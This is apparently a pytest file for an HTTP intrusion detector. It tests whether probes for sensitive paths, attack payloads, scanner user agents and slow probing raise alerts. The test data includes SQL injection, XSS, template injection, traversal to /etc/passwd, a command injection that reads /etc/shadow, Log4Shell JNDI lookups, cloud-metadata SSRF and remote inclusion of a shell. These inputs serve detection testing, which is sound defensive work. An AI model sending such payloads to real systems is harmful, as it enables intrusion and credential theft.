"""Sensitive paths, payloads, tool agents and low-and-slow: positives and near misses."""

from __future__ import annotations

import pytest

from sakimori.monitoring.detectors import DetectorConfig
from sakimori.monitoring.detectors.agents import EMPTY, STALE, TOOL, WEAK, AgentDetector
from sakimori.monitoring.detectors.paths import PathRules, PathsDetector
from sakimori.monitoring.detectors.payloads import PayloadDetector, classify, normalise
from sakimori.monitoring.detectors.slow import LowAndSlowDetector
from tests.monitoring.detectors.streams import http, run, run_all

CONFIG = DetectorConfig()


@pytest.mark.parametrize(
    "paths",
    [
        ["/_ignition/execute-solution"],
        ["/uploads/c99.php"],
        ["/w00tw00t.at.ISC.SANS.DFind:)"],
        ["/.env", "/.git/config"],
        ["/backup.sql", "/.htpasswd"],
        ["/phpMyAdmin/", "/pma/", "/administrator/"],
        ["/wp-login.php", "/wp-admin/", "/wp-content/x.php", "/wp-includes/y.php"],
    ],
)
def test_sensitive_paths_fire(paths: list[str]) -> None:
    records = [http(i * 20, p, status=404) for i, p in enumerate(paths)]
    alerts = run(PathsDetector(CONFIG), records)
    assert [a.detector for a in alerts] == ["http-sensitive-paths"]


@pytest.mark.parametrize(
    ("paths", "status"),
    [
        (["/.env"], 404),  # one secret probe is background noise
        (["/.env", "/.env", "/.env"], 404),  # the same path again adds nothing
        (["/wp-admin/", "/wp-login.php", "/wp-admin/edit.php", "/wp-admin/post.php"], 200),
        (["/phpmyadmin/", "/admin/"], 404),
        (["/about.php", "/static/app.js", "/products/1", "/upload"], 404),
    ],
)
def test_sensitive_paths_near_misses(paths: list[str], status: int) -> None:
    records = [http(i * 20, p, status=status) for i, p in enumerate(paths)]
    assert run(PathsDetector(CONFIG), records) == []


def test_path_rules_data_errors() -> None:
    from sakimori.errors import ConfigurationError

    for text in ("nonsense", "secrets glob x", "secrets file ("):
        with pytest.raises(ConfigurationError):
            PathRules(text)


@pytest.mark.parametrize(
    ("path", "query", "expected"),
    [
        ("/item", "id=1%27%20OR%20%271%27=%271", "sqli"),
        ("/item", "id=1+UNION/**/SELECT+1,2", "sqli"),
        ("/s", "q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
        ("/s", "q=%253Csvg%2Fonload%3Dx%253E", "xss"),
        ("/t", "name={{7*7}}", "ssti"),
        ("/..%2f..%2f..%2fetc/passwd", "", "traversal"),
        ("/download", "file=....//....//windows/win.ini", "traversal"),
        ("/ping", "host=127.0.0.1;cat%20/etc/shadow", "cmdi"),
        ("/x", "a=${jndi:ldap://e.example/a}", "jndi"),
        ("/x", "a=%24%7B%24%7Blower%3Aj%7Dndi%3Armi%3A%2F%2Fe%7D", "jndi"),
        ("/fetch", "url=http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("/fetch", "url=gopher://127.0.0.1:6379/_x", "ssrf"),
        ("/page.php", "inc=http://e.example/shell.txt??", "rfi"),
    ],
)
def test_payload_classes(path: str, query: str, expected: str) -> None:
    detector = PayloadDetector(CONFIG)
    assert expected in detector.feed(http(0, path, query=query))
    alerts = detector.flush()
    assert [a.detector for a in alerts] == ["http-payload"]
    assert expected in alerts[0].reason


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/search", "q=rock+and+roll&page=2"),
        ("/search", "q=select+a+colour+from+the+list"),
        ("/blog/2024/05/union-of-two-sets", ""),
        ("/api/items", "sort=-price&fields=id,name&filter=a|b"),
        ("/docs/c++/templates", "lang=en"),
        ("/a", "redirect=https%3A%2F%2Fexample.org%2Fhome"),
        ("/calc", "expr=(1%2B2)*3"),
        ("/login", "next=/account/orders&id=5"),
    ],
)
def test_payload_near_misses(path: str, query: str) -> None:
    assert run(PayloadDetector(CONFIG), [http(0, path, query=query)]) == []


def test_jndi_in_headers() -> None:
    detector = PayloadDetector(CONFIG)
    record = http(0, "/", agent="${jndi:${lower:l}${lower:d}a${lower:p}://e.example/a}")
    assert detector.feed(record) == ("jndi",)
    assert detector.feed(http(1, "/", referrer="${${::-j}ndi:rmi://e/x}")) == ("jndi",)


def test_open_proxy_probe() -> None:
    detector = PayloadDetector(CONFIG)
    assert detector.feed(http(0, "foo.example:25", method="CONNECT")) == ("proxy",)
    assert detector.feed(http(0, "http://e.example/ip.php")) == ("proxy",)


def test_normalise_decodes_repeatedly_and_collapses_lookups() -> None:
    assert normalise("%25252e%25252e%25252f") == "../"
    assert normalise("${${lower:J}${upper:n}di:x}") == "${jndi:x}"
    assert classify(normalise("a%20/**/UNION%20%20SELECT")) == ("sqli",)


@pytest.mark.parametrize(
    ("agent", "kind"),
    [
        ("sqlmap/1.7#stable (https://sqlmap.org)", TOOL),
        ("SQLMAP/1.7", TOOL),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", TOOL),
        ("Fuzz Faster U Fool v2.1.0-dev", TOOL),
        ("Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)", TOOL),
        ("curl/8.5.0", WEAK),
        ("python-requests/2.31.0", WEAK),
        ("Mozilla/5.0", WEAK),
        ("", EMPTY),
        ("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", STALE),
        ("Mozilla/5.0 (Windows NT 6.1) Gecko/20200928 Firefox/22.0", STALE),
    ],
)
def test_agent_classes(agent: str, kind: str) -> None:
    assert AgentDetector(CONFIG).feed(http(0, "/", agent=agent)) == (kind,)


def test_only_tool_agents_alert() -> None:
    detector = AgentDetector(CONFIG)
    records = [
        http(i, "/", agent=a) for i, a in enumerate(["curl/8", "", "Mozilla/5.0", "Wget/1.21"])
    ]
    records.append(http(9, "/", agent="Mozilla/5.0 (X11; Linux) Chrome/126.0 Safari/537.36"))
    assert run(detector, records) == []
    alerts = run(AgentDetector(CONFIG), [http(0, "/", agent="gobuster/3.6")])
    assert [(a.detector, a.count) for a in alerts] == [("http-tool-agent", 1)]


def test_low_and_slow_agent_like_probe() -> None:
    """A few requests, a minute apart, each a different kind of probe, with curl."""
    probes = [
        http(0, "/", agent="curl/8.5.0"),
        http(60, "/.env", agent="curl/8.5.0", status=404),
        http(130, "/search", query="q=%27%20OR%201=1--", agent="curl/8.5.0"),
        http(200, "/page", query="name={{7*7}}", agent="curl/8.5.0"),
    ]
    alerts = run_all(probes)
    assert "http-low-and-slow" in {a.detector for a in alerts}
    slow = next(a for a in alerts if a.detector == "http-low-and-slow")
    assert slow.first_seen == probes[0].time
    assert slow.last_seen <= probes[-1].time


def test_low_and_slow_near_misses() -> None:
    detector = LowAndSlowDetector(CONFIG)
    detector.observe(http(0, "/a"), ["generic-agent"])
    detector.observe(http(10, "/b"), ["generic-agent", "secrets"])
    detector.observe(http(5000, "/c"), ["sqli"])  # outside the window of the first two
    assert detector.flush() == []
